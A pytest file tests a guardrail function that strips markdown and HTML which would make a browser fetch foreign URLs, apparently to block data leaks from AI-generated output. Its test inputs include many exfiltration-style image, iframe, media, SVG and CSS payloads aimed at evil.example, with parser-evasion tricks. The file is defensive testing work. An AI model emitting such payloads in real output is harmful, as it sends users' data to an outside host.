import pytest

from tests.services.guardrails.leaks import whole


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://img.example.com/a.png)",
        '![chart](https://IMG.example.com/a.png "Title")',
        '<img src="https://img.example.com/a.png" alt="x">',
        "<b>bold</b> and <your key> and <https://example.com/?a=b>",
        "Dict[str, int] and Map<String, List> and 1 < 2",
        "[a link](https://elsewhere.example/) stays: nothing is fetched",
    ],
)
def test_what_fetches_nothing_foreign_stays(text: str) -> None:
    assert whole(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/p?d=1)",
        "![x](//evil.example/p)",
        "![x](https://img.example.com@evil.example/p)",
        "![x](https://img.example.com.evil.example/p)",
        "![x](<https://evil.example/p>)",
        "![x][ref]\n\n[ref]: https://evil.example/p",
        "![ref]\n\n[ref]: https://evil.example/p",
        "!![x](https://evil.example/p)",
        "![a![b](https://evil.example/p)](https://evil.example/q)",
        "![x](https://evil.example/" + "a" * 5_000 + ")",
        "<img src=https://evil.example/p>",
        "<IMG\nSRC='https://evil.example/p'>",
        "<img alt='>' src=https://evil.example/p>",
        '<div title=">" style="background:url(https://evil.example/p)">',
        '<div a=\'"\' b=">" style="background:url(https://evil.example/p)">',
        "<input type=image src=https://evil.example/p>",
        "<video poster=https://evil.example/p></video>",
        "<audio src=https://evil.example/p></audio>",
        "<svg><image href=https://evil.example/p></svg>",
        "<style>@import 'https://evil.example/p'</style>",
        "<iframe src=https://evil.example/p>",
        "<img " + "x" * 5_000 + " src=https://evil.example/p>",
        "<img src=https://evil.example/p",
    ],
)
def test_nothing_is_left_that_a_browser_would_fetch(text: str) -> None:
    from html.parser import HTMLParser

    from markdown_it import MarkdownIt

    fetched: list[str] = []

    class Fetches(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            fetched.extend(f"{tag} {key}" for key, value in attrs if tag != "a" and "evil" in (value or ""))
            fetched.extend(tag for _ in [0] if tag in {"style", "script", "iframe"})

    parser = Fetches()
    parser.feed(MarkdownIt("commonmark", {"html": True}).render(whole(text)))
    parser.close()
    assert fetched == []


@pytest.mark.parametrize("text", ["<a" + " x=y/z" * 120, "![" * 3_000, "<a b" * 3_000, '<a "' * 3_000])
def test_v08_hostile_markup_is_settled_in_one_pass(text: str) -> None:
    assert "<a" not in whole(text)
    assert "![" not in whole(text)
